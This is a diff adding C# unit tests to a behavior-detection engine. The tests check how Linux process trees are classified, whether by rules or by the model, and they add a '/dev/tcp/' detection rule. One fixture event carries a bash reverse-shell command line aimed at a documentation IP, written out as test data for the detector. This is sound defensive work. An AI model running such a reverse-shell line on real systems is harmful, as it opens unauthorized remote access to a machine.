@@ -80,6 +80,8 @@ namespace BehaviorBlocking.Tests.Classification
             RuleSet rules = _kit
                 .Write("enc.yml", RuleTestKit.Rule("enc", "category: process_creation", "  sel:\n    CommandLine|contains: ' -enc '\n  condition: sel", "medium", "attack.execution", "EncodedPs"))
                 .Write("dll.yml", RuleTestKit.Rule("dll", "category: process_creation", "  sel:\n    Image|endswith: '\\rundll32.exe'\n  condition: sel", "medium", "attack.defense_evasion", "Rundll"))
+                .Write("tcp.yml", RuleTestKit.Rule("tcp", "category: process_creation", "  sel:\n    CommandLine|contains: '/dev/tcp/'\n  condition: sel", "medium", "attack.execution", "DevTcpShell")
+                    .Replace("product: windows", "product: linux"))
                 .Load();
             var collector = new TreeFeatureCollector();
             var verdicts = new VerdictEngine(new VerdictOptions { Classifier = classifier, Features = collector, ClassifierPolicy = policy });
@@ -232,6 +234,48 @@ namespace BehaviorBlocking.Tests.Classification
 
             Assert.Equal("Behavior:Win32/Execution.EncodedPs!rule", Assert.Single(detections).Name);
             Assert.Equal(0, detector.ClassifierHealth.Decided);
+        }
+
+        private BehaviorEvent LinuxDevTcpShell() => _kit.Event(BehaviorBlocking.Sensors.Linux.LinuxEvents.Channel, 1, 1,
+            ("ProcessGuid", "{6f1c2a3b-0000-0000-0000-000000000200}"), ("ProcessId", "200"), ("Image", "/usr/bin/bash"),
+            ("CommandLine", "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"), ("User", "alice"), ("ParentProcessGuid", "{6f1c2a3b-0000-0000-0000-000000000010}"),
+            ("ParentProcessId", "10"), ("ParentImage", "/usr/sbin/sshd"), ("ParentCommandLine", "sshd: alice"));
+
+        [Fact]
+        public void Verdict_LinuxTree_TheWindowsTrainedModelIsNotConsultedAndTheRulesDecide()
+        {
+            var classifier = new FixedClassifier(new[] { 0.05f, 0.9f, 0.05f });
+
+            var (detections, detector) = Run(classifier, LinuxDevTcpShell(), EncodedPs());
+
+            Assert.Equal(new[] { "Behavior:Linux/Execution.DevTcpShell!rule", "Behavior:Win32/Execution.EncodedPs!ml" },
+                detections.Select(d => d.Name).Distinct().OrderBy(n => n, StringComparer.Ordinal));
+            Detection linux = detections.Last(d => d.Platform == DetectionPlatform.Linux);
+            Assert.Null(linux.ModelVersion);
+            Assert.Equal(0.5, linux.Score, 3);
+            Assert.DoesNotContain(linux.Evidence, e => e.Kind == "model" || e.Kind == "feature");
+            // Scored once: the Windows tree; the Linux tree never reached the model.
+            Assert.Equal((1, 1), (detector.ClassifierHealth.Scored, detector.ClassifierHealth.Decided));
+        }
+
+        [Fact]
+        public void Verdict_LinuxTree_ScoredWhenThePolicyNamesLinux()
+        {
+            var policy = new ClassifierPolicy { Platforms = new[] { DetectionPlatform.Win32, DetectionPlatform.Linux } };
+
+            var (detections, detector) = Run(new FixedClassifier(new[] { 0.05f, 0.9f, 0.05f }), policy, LinuxDevTcpShell());
+
+            Assert.Equal("Behavior:Linux/Execution.DevTcpShell!ml", detections.Last().Name);
+            Assert.Equal(1, detector.ClassifierHealth.Decided);
+        }
+
+        [Fact]
+        public void ClassifierPolicy_ByDefault_ScoresWindowsTreesOnly()
+        {
+            var policy = new ClassifierPolicy();
+
+            Assert.True(policy.Scores(DetectionPlatform.Win32));
+            Assert.False(policy.Scores(DetectionPlatform.Linux));
         }
 
         [Fact]
